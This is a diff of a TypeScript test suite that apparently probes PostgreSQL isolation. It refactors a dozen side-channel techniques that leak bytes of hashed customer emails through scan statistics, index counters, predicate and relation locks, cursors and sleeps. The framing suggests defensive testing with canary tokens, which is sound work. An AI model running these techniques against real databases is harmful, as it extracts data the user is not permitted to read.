@@ -11,8 +11,7 @@ export const bookkeeping = attackSuite('bookkeeping', {
 /** The same by way of another process. */
 export const bookkeepingApart = attackSuite('bookkeeping-apart', { processes: 2 });
 
-/** Customers whose hashes one statement spells, a byte at a time. */
-const CUSTOMERS = 210;
+/** A byte of a customer's hash. */
 const DIGIT = `('x' || substr(right(c.email, 8), 1 + 2 * quarter, 2))::bit(8)::int`;
 const token = (id: unknown, hash: string): string => `cnry-${String(id).padStart(6, '0')}-${hash.padStart(8, '0')} `;
 const PLAIN = 'SET enable_hashjoin = off; SET enable_mergejoin = off; SET enable_material = off; SET enable_memoize = off; SET max_parallel_workers_per_gather = 0; SET jit = off';
@@ -32,7 +31,7 @@ async function forgotten({ direct, bed }: Attacker): Promise<void> {
 }
 
 /** Numbers by `4 * id + quarter`. */
-function spell(attacker: Attacker, digits: ReadonlyMap<number, number>, from = 1, customers = CUSTOMERS): void {
+function spell(attacker: Attacker, digits: ReadonlyMap<number, number>, from = 1, { customers }: { readonly customers: number } = attacker): void {
   for (let id = from; id < from + customers; id++) {
     attacker.decoded += token(id, [0, 1, 2, 3].map((quarter) => (digits.get(4 * id + quarter) ?? 0).toString(16).padStart(2, '0')).join(''));
   }
@@ -47,16 +46,16 @@ function rise(before: ReadonlyMap<number, number>, after: ReadonlyMap<number, nu
 }
 
 /** A table of a partition for each digit; `row`: with a row in each, whose page must be read. */
-async function partitions({ own }: Attacker, client: WireClient, row = false): Promise<void> {
+async function partitions({ own, customers }: Attacker, client: WireClient, row = false): Promise<void> {
   await client.query(PLAIN);
   await client.query(`CREATE TABLE public.${own} (k int) PARTITION BY LIST (k)`);
-  for (let k = 4; k < 4 * CUSTOMERS + 4; k += 120) await client.query(Array.from({ length: 120 }, (_, i) => `CREATE TABLE public.${own}_${k + i} PARTITION OF public.${own} FOR VALUES IN (${k + i})`).join(';'), 60_000);
-  if (row) await client.query(`INSERT INTO public.${own} SELECT generate_series(4, ${4 * CUSTOMERS + 3})`, 60_000);
+  for (let k = 4; k < 4 * customers + 4; k += 120) await client.query(Array.from({ length: 120 }, (_, i) => `CREATE TABLE public.${own}_${k + i} PARTITION OF public.${own} FOR VALUES IN (${k + i})`).join(';'), 60_000);
+  if (row) await client.query(`INSERT INTO public.${own} SELECT generate_series(4, ${4 * customers + 3})`, 60_000);
 }
 
 /** Each partition is scanned as often as its digit says. */
-const scanning = (own: string): string =>
-  `SELECT count((SELECT count(*) FROM public.${own} p WHERE p.k = 4 * c.id + quarter + 0 * g)) FROM crm.customers c, generate_series(0, 3) quarter, generate_series(1, ${DIGIT}) g WHERE c.id <= ${CUSTOMERS}`;
+const scanning = ({ own, customers }: Attacker): string =>
+  `SELECT count((SELECT count(*) FROM public.${own} p WHERE p.k = 4 * c.id + quarter + 0 * g)) FROM crm.customers c, generate_series(0, 3) quarter, generate_series(1, ${DIGIT}) g WHERE c.id <= ${customers}`;
 
 /** What sessions have counted is told to all by and by; the server can be asked for it at once. */
 async function flushed(client: WireClient): Promise<void> {
@@ -71,7 +70,7 @@ const counted = (look: (own: string) => string, { another = false, per = 1, row 
   await partitions(attacker, client, row);
   await flushed(client);
   const before = byKey(rowsOf(await reader.query(look(attacker.own))));
-  await client.query(scanning(attacker.own), 60_000);
+  await client.query(scanning(attacker), 60_000);
   await flushed(client);
   spell(attacker, rise(before, byKey(rowsOf(await reader.query(look(attacker.own)))), per));
 });
@@ -81,14 +80,14 @@ const numscans = (own: string): string => `SELECT relname, pg_stat_get_numscans(
 
 /** One table, and an index for each digit. */
 const manyIndexes: Technique = afresh(async (attacker) => {
-  const { own } = attacker;
+  const { own, customers } = attacker;
   const client = await attacker.connect();
-  const keys = Array.from({ length: 4 * CUSTOMERS }, (_, i) => i + 4);
+  const keys = Array.from({ length: 4 * customers }, (_, i) => i + 4);
   await client.query(`${PLAIN}; SET enable_seqscan = off; SET enable_bitmapscan = off`);
   await client.query(`CREATE TABLE public.${own} (k int, v int)`);
   for (let k = 0; k < keys.length; k += 120) await client.query(keys.slice(k, k + 120).map((key) => `CREATE INDEX ${own}_${key} ON public.${own} (v) WHERE k = ${key}`).join(';'), 60_000);
   const branch = (key: number): string => `WHEN ${key} THEN (SELECT count(*) FROM public.${own} WHERE k = ${key} AND v = d.g)`;
-  await client.query(`SELECT count(CASE d.k ${keys.map(branch).join(' ')} END) FROM (SELECT 4 * c.id + quarter AS k, g FROM crm.customers c, generate_series(0, 3) quarter, generate_series(1, ${DIGIT}) g WHERE c.id <= ${CUSTOMERS}) d`, 80_000);
+  await client.query(`SELECT count(CASE d.k ${keys.map(branch).join(' ')} END) FROM (SELECT 4 * c.id + quarter AS k, g FROM crm.customers c, generate_series(0, 3) quarter, generate_series(1, ${DIGIT}) g WHERE c.id <= ${customers}) d`, 80_000);
   await flushed(client);
   spell(attacker, byKey(rowsOf(await client.query(`SELECT indexrelname, idx_scan FROM pg_stat_user_indexes WHERE relname = '${own}'`))));
 });
@@ -106,10 +105,10 @@ const manyPlaces = (view: boolean): Technique => afresh(async (attacker) => {
     await flushed(client);
     return byKey(rowsOf(await client.query(`SELECT indexrelname, idx_scan FROM pg_stat_user_indexes WHERE relname LIKE '${own}\\_%'`)));
   };
-  for (let id = 1; id <= 1.5 * CUSTOMERS; id += 7) {
+  for (let id = 1; id <= 1.5 * attacker.customers; id += 7) {
     const before = await look();
     await client.query(`SELECT count(${asked}) FROM (SELECT 4 * (c.id - ${id}) + quarter AS k, g FROM crm.customers c, generate_series(0, 3) quarter, generate_series(1, ${DIGIT}) g WHERE c.id >= ${id} AND c.id < ${id + 7}) d`, 30_000);
-    spell(attacker, new Map([...rise(before, await look())].map(([i, digit]) => [4 * id + i, digit])), id, 7);
+    spell(attacker, new Map([...rise(before, await look())].map(([i, digit]) => [4 * id + i, digit])), id, { customers: 7 });
   }
 });
 
@@ -125,12 +124,12 @@ const systemCatalogs: Technique = afresh(async (attacker) => {
     return new Map(QUIET.map((name, i) => [i, scans.get(name) ?? 0]));
   };
   const each = QUIET.length / 4;
-  for (let id = 1; id <= CUSTOMERS; id += each) {
+  for (let id = 1; id <= attacker.customers; id += each) {
     const before = await look();
     const branch = (name: string, i: number): string => `WHEN ${i} THEN (SELECT 1 FROM pg_catalog.${name} WHERE tableoid = d.g::oid LIMIT 1)`;
     await client.query(`SELECT count(CASE d.k ${QUIET.map(branch).join(' ')} END) FROM (SELECT 4 * (c.id - ${id}) + quarter AS k, 1 + 0 * g AS g FROM crm.customers c, generate_series(0, 3) quarter, generate_series(1, ${DIGIT}) g WHERE c.id >= ${id} AND c.id < ${id + each}) d`, 60_000);
     const risen = rise(before, await look());
-    spell(attacker, new Map([...risen].map(([i, digit]) => [4 * id + i, digit])), id, each);
+    spell(attacker, new Map([...risen].map(([i, digit]) => [4 * id + i, digit])), id, { customers: each });
   }
 });
 
@@ -141,7 +140,7 @@ const earlierCursor: Technique = afresh(async (attacker) => {
   await reader.query('SET stats_fetch_consistency = none');
   await reader.query('BEGIN');
   await reader.query(`DECLARE early CURSOR FOR ${numscans(attacker.own)}`);
-  await client.query(scanning(attacker.own), 60_000);
+  await client.query(scanning(attacker), 60_000);
   await flushed(client);
   spell(attacker, byKey(rowsOf(await reader.query('FETCH ALL FROM early'))));
   await reader.query('ROLLBACK');
@@ -151,9 +150,9 @@ const earlierCursor: Technique = afresh(async (attacker) => {
 const underWay: Technique = afresh(async (attacker) => {
   const [client, reader] = [await attacker.connect(), await attacker.connect()];
   await partitions(attacker, client);
-  const answer = reader.query(`SELECT repeat('x', 100000), 0 UNION ALL SELECT relname, pg_stat_get_numscans(oid) FROM (SELECT pg_sleep(6)) s, (${numscans(attacker.own).replace(', pg_stat_get_numscans(oid)', ', oid')}) p`, 60_000);
+  const answer = reader.query(`SELECT repeat('x', 100000), 0 UNION ALL SELECT relname, pg_stat_get_numscans(oid) FROM (SELECT pg_sleep(${2 + attacker.customers / 50})) s, (${numscans(attacker.own).replace(', pg_stat_get_numscans(oid)', ', oid')}) p`, 60_000);
   await new Promise((resolve) => setTimeout(resolve, 300));
-  await client.query(scanning(attacker.own), 60_000);
+  await client.query(scanning(attacker), 60_000);
   await flushed(client);
   spell(attacker, byKey(rowsOf(await answer).slice(1)));
 });
@@ -163,9 +162,9 @@ const filledMeanwhile: Technique = afresh(async (attacker) => {
   const { own } = attacker;
   const [client, writer] = [await attacker.connect(), await attacker.connect()];
   await partitions(attacker, client);
-  const filling = writer.query(`CREATE TABLE public.kept_${own} AS SELECT relname, pg_stat_get_numscans(p.oid) AS n FROM (SELECT pg_sleep(6)) s, pg_class p WHERE relkind = 'r' AND relname LIKE '${own}\\_%'`, 60_000);
+  const filling = writer.query(`CREATE TABLE public.kept_${own} AS SELECT relname, pg_stat_get_numscans(p.oid) AS n FROM (SELECT pg_sleep(${2 + attacker.customers / 50})) s, pg_class p WHERE relkind = 'r' AND relname LIKE '${own}\\_%'`, 60_000);
   await new Promise((resolve) => setTimeout(resolve, 300));
-  await client.query(scanning(own), 60_000);
+  await client.query(scanning(attacker), 60_000);
   await flushed(client);
   await filling;
   spell(attacker, byKey(rowsOf(await client.query(`SELECT relname, n FROM public.kept_${own}`))));
@@ -179,7 +178,7 @@ const ownView: Technique = afresh(async (attacker) => {
   await client.query(`CREATE VIEW public.seen_${own} AS ${tables(own)}`);
   await client.query(`PREPARE look AS SELECT * FROM public.seen_${own}`);
   await client.query('EXECUTE look');
-  await client.query(scanning(own), 60_000);
+  await client.query(scanning(attacker), 60_000);
   await flushed(client);
   spell(attacker, byKey(rowsOf(await client.query('EXECUTE look'))));
 });
@@ -195,7 +194,7 @@ const serializable = (begin: readonly string[], another: boolean, block = false)
   await client.query(`CREATE TABLE public.${own} (k int, v int, pad text, PRIMARY KEY (k, v))`);
   await client.query(`INSERT INTO public.${own} SELECT k, v, repeat('x', 1200) FROM generate_series(0, ${4 * LOOKED_UP - 1}) k, generate_series(0, 255) v`, 30_000);
   const places = new Map(rowsOf(await client.query(`SELECT ctid, k, v FROM public.${own}`)).map(([ctid, k, v]) => [String(ctid), [Number(String(k)), Number(String(v))] as const]));
-  for (let id = 1; id <= CUSTOMERS; id += LOOKED_UP) {
+  for (let id = 1; id <= attacker.customers; id += LOOKED_UP) {
     for (const sql of begin) await (block ? reader : client).query(sql);
     const look = `SELECT count((SELECT length(g.pad) FROM public.${own} g WHERE g.k = 4 * (c.id - ${id}) + quarter AND g.v = ${DIGIT})) FROM crm.customers c, generate_series(0, 3) quarter WHERE c.id >= ${id} AND c.id < ${id + LOOKED_UP}`;
     // What a transaction has read stays locked for as long as another one is open beside it.
@@ -203,7 +202,7 @@ const serializable = (begin: readonly string[], another: boolean, block = false)
     const locked = rowsOf(await (another ? reader : client).query(`SELECT '(' || page || ',' || tuple || ')' FROM pg_locks WHERE mode = 'SIReadLock' AND locktype = 'tuple' AND relation = 'public.${own}'::regclass`));
     await (block ? reader : client).query('COMMIT');
     const digits = locked.flatMap(([ctid]) => (places.has(String(ctid)) ? [places.get(String(ctid)) as readonly [number, number]] : []));
-    spell(attacker, new Map(digits.map(([k, v]) => [4 * id + k, v])), id, LOOKED_UP);
+    spell(attacker, new Map(digits.map(([k, v]) => [4 * id + k, v])), id, { customers: LOOKED_UP });
   }
 });
 
@@ -222,7 +221,7 @@ const lockedByName = (make: (i: number) => string, before: string | undefined, t
   const client = await attacker.connect();
   for (let i = 0; i < 512; i += 128) await client.query(Array.from({ length: 128 }, (_, k) => make(i + k)).join(';'), 60_000);
   if (before !== undefined) await client.query(before);
-  for (let id = 1; id <= CUSTOMERS; id += 16) {
+  for (let id = 1; id <= attacker.customers; id += 16) {
     await client.query('BEGIN');
     await client.query(`SELECT count(${touch(`'r_' || (32 * (c.id - ${id}) + n)`)}) FROM crm.customers c, generate_series(0, 31) n WHERE c.id >= ${id} AND c.id < ${id + 16} AND get_bit(('x' || right(c.email, 8))::bit(32), n) = 1`, 30_000);
     const names = rowsOf(await client.query(`SELECT DISTINCT relname FROM pg_locks l JOIN pg_class r ON r.oid = l.relation WHERE l.pid = pg_backend_pid() AND relname LIKE 'r\\_%'`));
@@ -236,7 +235,7 @@ const lockedOneByOne: Technique = afresh(async (attacker) => {
   const client = await attacker.connect();
   await client.query(Array.from({ length: 512 }, (_, i) => `CREATE TEMP SEQUENCE r_${i}`).join(';'), 60_000);
   await client.query(`SELECT count(nextval('r_' || i)) FROM generate_series(0, 511) i`);
-  for (let id = 1; id <= CUSTOMERS; id += 16) {
+  for (let id = 1; id <= attacker.customers; id += 16) {
     const branches = Array.from({ length: 512 }, (_, i) => `WHEN ${i} THEN currval('r_${i}')`).join(' ');
     await client.query('BEGIN');
     await client.query(`SELECT count(CASE 32 * (c.id - ${id}) + n ${branches} END) FROM crm.customers c, generate_series(0, 31) n WHERE c.id >= ${id} AND c.id < ${id + 16} AND get_bit(('x' || right(c.email, 8))::bit(32), n) = 1`, 30_000);
@@ -250,7 +249,7 @@ const lockedOneByOne: Technique = afresh(async (attacker) => {
 const typesByName: Technique = afresh(async (attacker) => {
   const client = await attacker.connect();
   await client.query(Array.from({ length: 512 }, (_, i) => `CREATE TYPE public.${attacker.own}_${i} AS ENUM ()`).join(';'), 60_000);
-  for (let id = 1; id <= CUSTOMERS; id += 16) {
+  for (let id = 1; id <= attacker.customers; id += 16) {
     await client.query('BEGIN');
     await client.query(`SELECT count(pg_get_object_address('type', ARRAY['public.${attacker.own}_' || (32 * (c.id - ${id}) + n)], '{}')) FROM crm.customers c, generate_series(0, 31) n WHERE c.id >= ${id} AND c.id < ${id + 16} AND get_bit(('x' || right(c.email, 8))::bit(32), n) = 1`, 30_000);
     const names = rowsOf(await client.query(`SELECT DISTINCT 'r' || substr(typname, ${attacker.own.length + 1}) FROM pg_locks l JOIN pg_type t ON t.oid = l.objid WHERE l.pid = pg_backend_pid() AND l.locktype = 'object' AND typname LIKE '${attacker.own}\\_%'`));
@@ -263,7 +262,7 @@ const typesByName: Technique = afresh(async (attacker) => {
 const readByBranches: Technique = afresh(async (attacker) => {
   const client = await attacker.connect();
   await client.query(Array.from({ length: 512 }, (_, i) => `CREATE TEMP TABLE r_${i} ()`).join(';'), 60_000);
-  for (let id = 1; id <= CUSTOMERS; id += 16) {
+  for (let id = 1; id <= attacker.customers; id += 16) {
     const branch = (_: unknown, i: number): string => `IF (SELECT get_bit(('x' || right(c.email, 8))::bit(32), ${i & 31}) FROM crm.customers c WHERE id = ${id + (i >> 5)}) = 1 THEN PERFORM 1 FROM r_${i}; END IF;`;
     await client.query('BEGIN');
     await client.query(`DO $$ BEGIN ${Array.from({ length: 512 }, branch).join('\n')} END $$`, 60_000);
@@ -274,14 +273,14 @@ const readByBranches: Technique = afresh(async (attacker) => {
 
 /** A table that has an index for each digit from its beginning, in the same transaction. */
 const keysOfOwn: Technique = afresh(async (attacker) => {
-  const { own } = attacker;
+  const { own, customers } = attacker;
   const client = await attacker.connect();
-  const keys = Array.from({ length: 4 * CUSTOMERS }, (_, i) => i + 4);
+  const keys = Array.from({ length: 4 * customers }, (_, i) => i + 4);
   await client.query(`${PLAIN}; SET enable_seqscan = off; SET enable_bitmapscan = off`);
   await client.query('BEGIN');
   await client.query(`CREATE TABLE public.${own} (${keys.map((key) => `c${key} int CONSTRAINT ${own}_${key} UNIQUE`).join(', ')})`, 60_000);
   const branch = (key: number): string => `WHEN ${key} THEN (SELECT count(*) FROM public.${own} WHERE c${key} = d.g)`;
-  await client.query(`SELECT count(CASE d.k ${keys.map(branch).join(' ')} END) FROM (SELECT 4 * c.id + quarter AS k, g FROM crm.customers c, generate_series(0, 3) quarter, generate_series(1, ${DIGIT}) g WHERE c.id <= ${CUSTOMERS}) d`, 80_000);
+  await client.query(`SELECT count(CASE d.k ${keys.map(branch).join(' ')} END) FROM (SELECT 4 * c.id + quarter AS k, g FROM crm.customers c, generate_series(0, 3) quarter, generate_series(1, ${DIGIT}) g WHERE c.id <= ${customers}) d`, 80_000);
   await client.query('COMMIT');
   await flushed(client);
   spell(attacker, byKey(rowsOf(await client.query(`SELECT indexrelname, idx_scan FROM pg_stat_user_indexes WHERE relname = '${own}'`))));
@@ -291,7 +290,7 @@ const keysOfOwn: Technique = afresh(async (attacker) => {
 const planned: Technique = async (attacker) => {
   const client = await attacker.connect();
   await partitions(attacker, client);
-  const body = scanning(attacker.own).replace('SELECT count(', 'SELECT 1 + 0 * count(').replace(')) FROM crm', '))::int FROM crm');
+  const body = scanning(attacker).replace('SELECT count(', 'SELECT 1 + 0 * count(').replace(')) FROM crm', '))::int FROM crm');
   await client.query(`CREATE FUNCTION pg_temp.f(int) RETURNS int IMMUTABLE LANGUAGE sql AS $$ ${body} AND $1 > 0 $$; CREATE OPERATOR pg_temp.!+! (FUNCTION = pg_temp.f, RIGHTARG = int)`, 30_000);
   await forgotten(attacker);
   await client.ask([wire.parse('asked', 'SELECT OPERATOR(pg_temp.!+!) 1'), wire.bind('', 'asked'), wire.sync], 1, 60_000);
